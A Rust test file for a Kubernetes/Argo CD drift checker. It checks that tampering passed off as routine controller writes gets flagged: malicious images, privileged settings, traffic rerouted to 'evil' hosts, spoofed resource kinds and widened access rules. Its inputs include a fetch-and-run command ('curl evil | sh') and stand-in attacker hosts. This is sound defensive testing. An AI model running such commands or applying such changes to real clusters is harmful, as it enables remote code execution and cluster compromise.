//! Changes under the name of a controller that look like the harmless ones.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use expect_test::expect;
use serde_json::{Value, json};

use crate::scene::{Scene, check, thing};

fn counted(scene: &Scene) -> Vec<String> {
    let verdict = scene.verdict();
    let counted = verdict.findings.iter().filter(|finding| finding.counts);
    counted.flat_map(|finding| &finding.fields).map(ToString::to_string).collect()
}

fn kept(scene: &Scene) -> Vec<String> {
    scene.verdict().advice.keep_live.iter().map(ToString::to_string).collect()
}

/// The owner of one field, `fieldsV1` around it.
fn owner_of(path: &[&str]) -> Value {
    path.iter().rev().fold(json!({}), |inner, field| json!({format!("f:{field}"): inner}))
}

/// `value` at this place.
fn at(path: &[&str], value: Value) -> Value {
    path.iter().rev().fold(value, |inner, field| json!({*field: inner}))
}

fn written(kind: &'static str, path: &[&str], git: Value, live: Value, by: &'static str) -> Scene {
    Scene::new(kind, at(path, git), at(path, live))
        .by("argocd-controller Apply 1", json!({"f:metadata": {"f:labels": {}}}))
        .by(by, owner_of(path))
}

#[test]
fn only_what_can_be_no_certificate_is_a_placeholder() {
    let pem = |label: &str| STANDARD.encode(format!("-----BEGIN {label}-----\n{}\n", "x".repeat(90)));
    let broken = |text: &str| {
        let lines: Vec<String> =
            text.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
        lines.join("\n")
    };
    let scene = |git: &str, live: &str| {
        let of = |bundle: &str| json!({"webhooks": [{"name": "a", "clientConfig": {"caBundle": bundle}}]});
        let theirs = json!({"f:webhooks": {"k:{\"name\":\"a\"}": {"f:clientConfig": {"f:caBundle": {}}}}});
        Scene::new("admissionregistration.k8s.io/v1 ValidatingWebhookConfiguration", of(git), of(live))
            .by("argocd-controller Apply 1", json!({}))
            .by("ca-injector Update 2", theirs)
    };
    let (ours, theirs) = (pem("CERTIFICATE"), pem("CERTIFICATE").replace("eHh4", "eXl5"));
    assert_ne!(ours, theirs);
    for pinned in [
        ours.clone(),
        format!("{ours}\n"),
        format!("{}\n", broken(&ours)),
        pem("TRUSTED CERTIFICATE"),
        "not base64!".to_owned(),
    ] {
        assert_eq!(counted(&scene(&pinned, &theirs)), ["/webhooks/0/clientConfig/caBundle"], "{pinned}");
        assert_eq!(kept(&scene(&pinned, &theirs)), Vec::<String>::new(), "{pinned}");
    }
    for placeholder in ["Cg==", "Cg==\n", "bm90IHlldA=="] {
        for injected in [theirs.clone(), broken(&theirs)] {
            check(
                scene(placeholder, &injected),
                expect!["ControllerOwned /webhooks/0/clientConfig/caBundle by ca-injector"],
            );
        }
    }
}

#[test]
fn no_controller_reorders_steps_and_what_is_tried_in_turn() {
    let lists: [(&str, &[&str], Value); 9] = [
        (
            "argoproj.io/v1alpha1 Rollout",
            &["spec", "strategy", "canary", "steps"],
            json!([{"setWeight": 10}, {"pause": {}}, {"setWeight": 100}]),
        ),
        (
            "tekton.dev/v1 Task",
            &["spec", "steps"],
            json!([{"name": "build", "image": "a"}, {"name": "scan", "image": "b"}]),
        ),
        (
            "argoproj.io/v1alpha1 Workflow",
            &["spec", "steps"],
            json!([[{"name": "a", "template": "x"}], [{"name": "b", "template": "y"}]]),
        ),
        (
            "apiextensions.crossplane.io/v1 Composition",
            &["spec", "pipeline"],
            json!([{"step": "a", "functionRef": {"name": "f"}}, {"step": "b", "functionRef": {"name": "g"}}]),
        ),
        ("example.io/v1 Thing", &["spec", "patches"], json!([{"name": "a"}, {"name": "b"}])),
        ("example.io/v1 Thing", &["spec", "nameservers"], json!(["10.0.0.1", "10.0.0.2"])),
        ("example.io/v1 Thing", &["spec", "fallback"], json!([{"name": "a"}, {"name": "b"}])),
        ("example.io/v1 Thing", &["spec", "stages"], json!(["build", "scan"])),
        ("example.io/v1 Thing", &["spec", "items"], json!([{"name": "a", "when": "x"}, {"name": "b"}])),
    ];
    for (kind, path, items) in lists {
        let mut other = items.clone();
        other.as_array_mut().unwrap().reverse();
        let scene = written(kind, path, items, other, "rollouts-controller Update 2");
        assert!(!counted(&scene).is_empty(), "{kind} {path:?}");
        assert_eq!(kept(&scene), Vec::<String>::new(), "{kind} {path:?}");
    }
    // Things that are only named may be in any order.
    for items in [
        json!([{"key": "b"}, {"key": "a"}]),
        json!(["b", "a"]),
        json!([{"name": "b", "kind": "X"}, {"name": "a", "kind": "X"}]),
        json!([{"id": 2, "type": "x"}, {"id": 1, "type": "x"}]),
    ] {
        let mut other = items.clone();
        other.as_array_mut().unwrap().reverse();
        let scene =
            written("example.io/v1 Thing", &["spec", "data"], items, other, "queue-controller Update 2");
        check(scene, expect!["ControllerOwned /spec/data by queue-controller"]);
    }
}

#[test]
fn no_controller_adds_an_image_a_right_or_an_address_inside_a_list() {
    let added: [(&str, &str, Value); 17] = [
        ("templates", "podSpecPatch", json!("{\"containers\":[{\"name\":\"main\",\"image\":\"evil\"}]}")),
        ("templates", "securityContext", json!({"privileged": true})),
        ("endpoints", "proxyUrl", json!("http://evil")),
        ("endpoints", "tlsConfig", json!({"insecureSkipVerify": true})),
        ("endpoints", "bearerTokenFile", json!("/token")),
        ("endpoints", "address", json!("evil.example.com")),
        ("endpoints", "ports", json!({"tcp": 9999})),
        ("services", "namespace", json!("theirs")),
        ("items", "skipVerification", json!(true)),
        ("items", "mirrors", json!(["theirs"])),
        ("items", "extra", json!({"deep": {"image": "evil"}})),
        ("items", "extra", json!("registry.example.com/evil:1")),
        ("items", "extra", json!("curl evil | sh")),
        ("items", "extra", json!([{"command": "x"}])),
        ("params", "default", json!("evil")),
        ("volumes", "size", json!(3)),
        ("steps", "onError", json!("continue")),
    ];
    for (list, field, value) in added {
        let git = json!([{"name": "a"}]);
        let mut live = git.clone();
        live[0][field] = value;
        let scene =
            written("example.io/v1 Unknown", &["spec", list], git.clone(), live, "x-controller Update 2")
                .server_makes(at(&["spec", list], git));
        assert!(!counted(&scene).is_empty(), "{list} {field}");
        assert_eq!(kept(&scene), Vec::<String>::new(), "{list} {field}");
    }
    // A plain value in a list of another name is what controllers fill in.
    for value in [json!("string"), json!(3), json!(true), json!("1.5Gi"), json!({"size": "large"})] {
        let git = json!([{"name": "a"}]);
        let mut live = git.clone();
        live[0]["mode"] = value.clone();
        let scene =
            written("example.io/v1 Unknown", &["spec", "params"], git.clone(), live, "x-controller Update 2")
                .server_makes(at(&["spec", "params"], git));
        assert_eq!(counted(&scene), Vec::<String>::new(), "{value}");
    }
}

#[test]
fn no_controller_sends_traffic_elsewhere() {
    for list in ["services", "mirrors", "upstreams", "backends", "endpoints", "servers", "pipeline", "stores"]
    {
        let theirs = json!({"name": "evil", "namespace": "theirs", "kind": "TraefikService"});
        let scene = written(
            "traefik.io/v1alpha1 TraefikService",
            &["spec", "weighted", list],
            json!([{"name": "a"}]),
            json!([{"name": "a"}, theirs]),
            "x-controller Update 2",
        );
        assert_eq!(counted(&scene), [format!("/spec/weighted/{list}/1")]);
        assert_eq!(kept(&scene), Vec::<String>::new());
    }
}

#[test]
fn a_kind_that_borrows_a_name_of_kubernetes_gets_nothing_by_it() {
    let storage = &["spec", "resources", "requests", "storage"];
    let claim = |kind: &'static str| written(kind, storage, json!("1Gi"), json!("2Gi"), "x-resizer Update 2");
    check(
        claim("v1 PersistentVolumeClaim"),
        expect!["ControllerOwned /spec/resources/requests/storage by x-resizer"],
    );
    assert_eq!(counted(&claim("evil.io/v1 PersistentVolumeClaim")), ["/spec/resources/requests/storage"]);
    let role = |verb: &str| json!({"aggregationRule": {"x": 1}, "rules": [{"verbs": [verb]}]});
    let scene = Scene::new("evil.io/v1 ClusterRole", role("get"), role("*"))
        .by("argocd-controller Apply 1", json!({"f:metadata": {"f:labels": {}}}))
        .by("someone Update 2", json!({"f:rules": {}}));
    assert!(!counted(&scene).is_empty());
}

#[test]
fn a_tag_is_no_quantity_in_a_name_of_several_words() {
    for (field, git, live) in [
        ("imageTag", "2M", "2000000"),
        ("appVersion", "1h", "60m"),
        ("secretKey", "5k", "5000"),
        ("userPassword", "60s", "1m"),
        ("clientID", "5k", "5000"),
        ("git_revision", "1h", "60m"),
    ] {
        let scene =
            written("example.io/v1 Thing", &["spec", field], json!(git), json!(live), "x-operator Update 2");
        assert_eq!(counted(&scene), [format!("/spec/{field}")]);
    }
    for (field, git, live) in
        [("tokenTTL", "60m", "1h"), ("idleTimeout", "60s", "1m"), ("keyRotationInterval", "60s", "1m")]
    {
        let scene =
            written("example.io/v1 Thing", &["spec", field], json!(git), json!(live), "x-operator Update 2");
        assert_eq!(counted(&scene), Vec::<String>::new(), "{field}");
    }
}

#[test]
fn the_order_of_webhooks_is_the_order_of_calls() {
    let of = |one: &str, other: &str| json!({"webhooks": [{"name": one}, {"name": other}]});
    let kind = "admissionregistration.k8s.io/v1 ValidatingWebhookConfiguration";
    let scene = Scene::new(kind, of("a", "b"), of("b", "a")).by("argocd-controller Apply 1", json!({}));
    assert_eq!(counted(&scene), ["/webhooks"]);
}

/// The user behind a write, as the witness noted it: a name alone, or with the group of administrators.
fn reordered_by(user: &str) -> Scene {
    let mut scene = thing(json!({"items": ["a", "b"]}), json!({"items": ["b", "a"]}))
        .by("argocd-controller Apply 1", json!({"f:metadata": {"f:labels": {}}}))
        .by("queue-controller Update 2", json!({"f:spec": {"f:items": {}}}));
    scene.live["metadata"] = json!({"annotations": {
        "plumb.dev/last-writer": format!("2026-01-01T00:00:02Z {user} queue-controller")}});
    scene
}

#[test]
fn a_user_that_the_api_server_knows_is_no_controller_by_name() {
    for user in ["\"mallory\"", "[\"mallory\",\"system:authenticated\"]", "\"oidc:jane@example.com\""] {
        assert_eq!(counted(&reordered_by(user)), ["/spec/items"], "{user}");
    }
    for user in [
        "\"system:serviceaccount:queue:controller\"",
        "\"system:kube-controller-manager\"",
        "\"eks:addon-manager\"",
        "[\"admin\",\"system:masters\"]",
    ] {
        assert_eq!(counted(&reordered_by(user)), Vec::<String>::new(), "{user}");
    }
    // The note is about another write.
    let mut other = reordered_by("\"mallory\"");
    other.managers[1].0 = "queue-controller Update 3";
    assert_eq!(counted(&other), Vec::<String>::new());
}

#[test]
fn without_an_answer_an_addition_inside_one_value_is_not_excused() {
    let network = |peer: Value| json!({"spec": {"podSelector": {}, "ingress": [{"from": [peer]}]}});
    let role = |rule: Value| json!({"rules": [rule]});
    let opened = [
        (
            "networking.k8s.io/v1 NetworkPolicy",
            network(json!({"podSelector": {"matchLabels": {"app": "a"}}})),
            network(json!({"podSelector": {"matchLabels": {"app": "a"}}, "namespaceSelector": {}})),
            json!({"f:spec": {"f:ingress": {}}}),
            "/spec/ingress/0/from/0/namespaceSelector",
        ),
        (
            "rbac.authorization.k8s.io/v1 ClusterRole",
            role(json!({"verbs": ["get"], "resources": ["pods"]})),
            role(json!({"verbs": ["get"], "resources": ["pods"], "nonResourceURLs": ["*"]})),
            json!({"f:rules": {}}),
            "/rules/0/nonResourceURLs",
        ),
    ];
    for (kind, git, live, owned, field) in opened {
        for name in ["someone Update 2", "kube-controller-manager Update 2", "argocd-controller Update 2"] {
            let scene = Scene::new(kind, git.clone(), live.clone())
                .by("argocd-controller Apply 1", json!({"f:metadata": {"f:labels": {}}}))
                .by(name, owned.clone());
            assert_eq!(counted(&scene), [field], "{kind} by {name}");
        }
    }
    // A key of a selector, under plumb's own name or without a record.
    let policy = |labels: Value| json!({"spec": {"podSelector": {"matchLabels": labels}}});
    let git = policy(json!({"app": "web"}));
    for owned in [json!({"f:spec": {"f:podSelector": {}}}), json!({"f:metadata": {"f:labels": {}}})] {
        let live = policy(json!({"app": "web", "nothing": "has-this"}));
        let scene = |scene: Scene| scene.by("argocd-controller Apply 2", owned.clone());
        let same = scene(Scene::new("networking.k8s.io/v1 NetworkPolicy", git.clone(), live.clone()));
        assert_eq!(counted(&same), ["/spec/podSelector/matchLabels/nothing"], "{owned}");
        let before = policy(json!({"app": "old"}));
        let changed = scene(Scene::new("networking.k8s.io/v1 NetworkPolicy", git.clone(), live));
        let changed = counted(&changed.applied_before(before));
        assert!(changed.contains(&"/spec/podSelector/matchLabels/nothing".to_owned()), "{changed:?}");
    }
    // What only plumb owns in a list is a default that plumb does not know.
    let port = |port: Value| json!({"rules": [port]});
    let scene = Scene::new("example.io/v1 Thing", port(json!({"a": 1})), port(json!({"a": 1, "b": 2})))
        .by("argocd-controller Apply 2", json!({"f:rules": {}}));
    assert_eq!(counted(&scene), Vec::<String>::new());
}

/// A chart that prints the date. Another client applied as `argocd-controller` on the day after.
fn on_another_day(kind: &'static str, git: &Value, live: &Value, owned: &Value) -> Scene {
    let dated = |content: &Value, day: &str| {
        let mut content = content.clone();
        content["metadata"] = json!({"annotations": {"day": day}});
        content
    };
    let mut owned = owned.clone();
    owned["f:metadata"] = json!({"f:annotations": {"f:day": {}}});
    let git = dated(git, "Tue");
    Scene::new(kind, git.clone(), dated(live, "Mon"))
        .by("argocd-controller Apply 2", owned)
        .rendered_again(git.clone())
        .server_makes(git)
        .of_the_same_commit()
}

#[test]
fn a_value_that_is_no_date_does_not_change_with_the_day() {
    let policy = |app: &str| json!({"spec": {"podSelector": {"matchLabels": {"app": app}}}});
    let config = |value: &str| json!({"data": {"level": value}});
    for (kind, git, live, owned, field) in [
        ("v1 ConfigMap", config("info"), config("off"), json!({"f:data": {"f:level": {}}}), "/data/level"),
        ("v1 ConfigMap", config("5"), config("0"), json!({"f:data": {"f:level": {}}}), "/data/level"),
        (
            "v1 ConfigMap",
            config("10.0.0.0/8"),
            config("0.0.0.0/0"),
            json!({"f:data": {"f:level": {}}}),
            "/data/level",
        ),
        (
            "networking.k8s.io/v1 NetworkPolicy",
            policy("web"),
            policy("nothing"),
            json!({"f:spec": {"f:podSelector": {}}}),
            "/spec/podSelector/matchLabels/app",
        ),
    ] {
        let scene = on_another_day(kind, &git, &live, &owned);
        assert_eq!(counted(&scene), [field], "{kind} {live}");
        assert_eq!(kept(&scene), ["/metadata/annotations/day"], "{kind} {live}");
    }
    // A date is excused, but not one that the witness saw another client write.
    let built = |day: &str| config(&format!("built on 2026-11-{day}"));
    let owned = json!({"f:data": {"f:level": {}}});
    let scene = || on_another_day("v1 ConfigMap", &built("17"), &built("16"), &owned);
    assert_eq!(counted(&scene()), Vec::<String>::new());
    let mut witnessed = scene();
    witnessed.live["metadata"]["annotations"]["plumb.dev/last-writer"] =
        json!("2026-01-01T00:00:02Z \"mallory\" argocd-controller");
    assert!(counted(&witnessed).contains(&"/data/level".to_owned()));
}

#[test]
fn a_key_that_is_no_date_does_not_change_with_the_day() {
    let owned = |key: &str| json!({"f:data": {format!("f:{key}"): {}}});
    let of = |key: &str| json!({"data": {key: "on"}});
    let scene = |git: &str, live: &str| on_another_day("v1 ConfigMap", &of(git), &of(live), &owned(live));
    assert!(counted(&scene("FEATURE_A", "FEATURE_B")).contains(&"/data/FEATURE_A".to_owned()));
    assert_eq!(counted(&scene("log-2026-11-17", "log-2026-11-16")), Vec::<String>::new());
    assert_eq!(kept(&scene("FEATURE_A", "FEATURE_B")), ["/metadata/annotations/day"]);
}
